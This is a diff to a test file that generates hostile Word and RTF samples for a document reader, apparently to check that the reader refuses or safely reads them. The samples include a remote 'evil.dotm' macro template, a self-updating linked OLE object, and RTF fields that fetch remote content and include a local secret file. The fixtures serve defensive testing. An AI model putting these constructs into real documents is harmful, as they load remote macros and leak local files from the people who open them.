@@ -6,6 +6,7 @@ import zlib
 
 from tests.zoo.animals import WORDS, Lures, animal, either, read, refused
 from tests.zoo.packing import (
+    OFFICE,
     Parts,
     W,
     compound,
@@ -156,9 +157,7 @@ def circular_numbering(lures: Lures) -> bytes:
         '<w:styleLink w:val="B"/></w:abstractNum><w:abstractNum w:abstractNumId="3">'
         '<w:lvl w:ilvl="0"><w:start w:val="-999999999"/><w:numFmt w:val="upperRoman"/>'
         '<w:lvlText w:val="%1.%1.%9."/></w:lvl></w:abstractNum>'
-        + "".join(
-            f'<w:num w:numId="{n}"><w:abstractNumId w:val="{n}"/></w:num>' for n in (1, 2, 3)
-        )
+        + "".join(f'<w:num w:numId="{n}"><w:abstractNumId w:val="{n}"/></w:num>' for n in (1, 2, 3))
         + "</w:numbering>"
     )
     body = "".join(
@@ -181,7 +180,9 @@ def utf16_part(lures: Lures) -> bytes:
 @animal("strange-encoding.docx", refused(BROKEN))
 def strange_encoding(lures: Lures) -> bytes:
     """document.xml that says it is in an encoding that nobody knows."""
-    return word("", {"word/document.xml": document(BODY, '<?xml version="1.0" encoding="klingon"?>')})
+    return word(
+        "", {"word/document.xml": document(BODY, '<?xml version="1.0" encoding="klingon"?>')}
+    )
 
 
 def reaching(lures: Lures, kind: str, body: str) -> bytes:
@@ -194,8 +195,10 @@ def reaching(lures: Lures, kind: str, body: str) -> bytes:
 @animal("outside-template.docx", read("125 hồ sơ"))
 def outside_template(lures: Lures) -> bytes:
     """A template from the net, which Word would load with its macros."""
-    settings = f'<w:settings xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/' \
-        'officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>'  # fmt: skip
+    settings = (
+        f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}">'
+        '<w:attachedTemplate r:id="rId1"/></w:settings>'
+    )
     rels = relations(("rId1", "attachedTemplate", f"{lures.url}/evil.dotm"))
     return word(
         BODY,
@@ -219,8 +222,8 @@ def outside_picture(lures: Lures) -> bytes:
 @animal("outside-object.docx", read("125 hồ sơ"))
 def outside_object(lures: Lures) -> bytes:
     """A linked OLE object that updates itself."""
-    return reaching(lures, "oleObject", '<w:p><w:r><w:object><o:OLEObject Type="Link" '
-                    'ProgID="htmlfile" r:id="rId7" UpdateMode="Always"/></w:object></w:r></w:p>')  # fmt: skip
+    linked = '<o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId7" UpdateMode="Always"/>'
+    return reaching(lures, "oleObject", f"<w:p><w:r><w:object>{linked}</w:object></w:r></w:p>")
 
 
 @animal("outside-part.docx", read("125 hồ sơ"))
@@ -493,11 +496,14 @@ def secret_text(lures: Lures) -> bytes:
 @animal("reaching.rtf", read("125"), needs="office")
 def reaching_rtf(lures: Lures) -> bytes:
     """An RTF with fields that include a picture and a text, and a template on a server."""
-    return (
-        "{\\rtf1\\ansi{\\*\\template " + lures.url + "/t.dotm}BAO CAO\\par Tiep nhan 125 ho so.\\par"
-        "{\\field{\\*\\fldinst INCLUDEPICTURE \"" + lures.url + "/rtf.png\" \\\\d}{\\fldrslt}}"
-        "{\\field{\\*\\fldinst INCLUDETEXT \"" + str(lures.secret) + "\"}{\\fldrslt}}}"
-    ).encode()  # fmt: skip
+    asked = (
+        f'INCLUDEPICTURE "{lures.url}/rtf.png" \\\\d',
+        f'INCLUDETEXT "{lures.secret}"',
+        f'INCLUDETEXT "{lures.url}/rtf.txt"',
+    )
+    fields = "".join("{\\field{\\*\\fldinst " + code + "}{\\fldrslt}}" for code in asked)
+    template = "{\\*\\template " + lures.url + "/t.dotm}"
+    return ("{\\rtf1\\ansi" + template + "BAO CAO\\par 125 ho so.\\par" + fields + "}").encode()
 
 
 @animal("deep.rtf", refused("RTF|không mở được|quá"), needs="office")
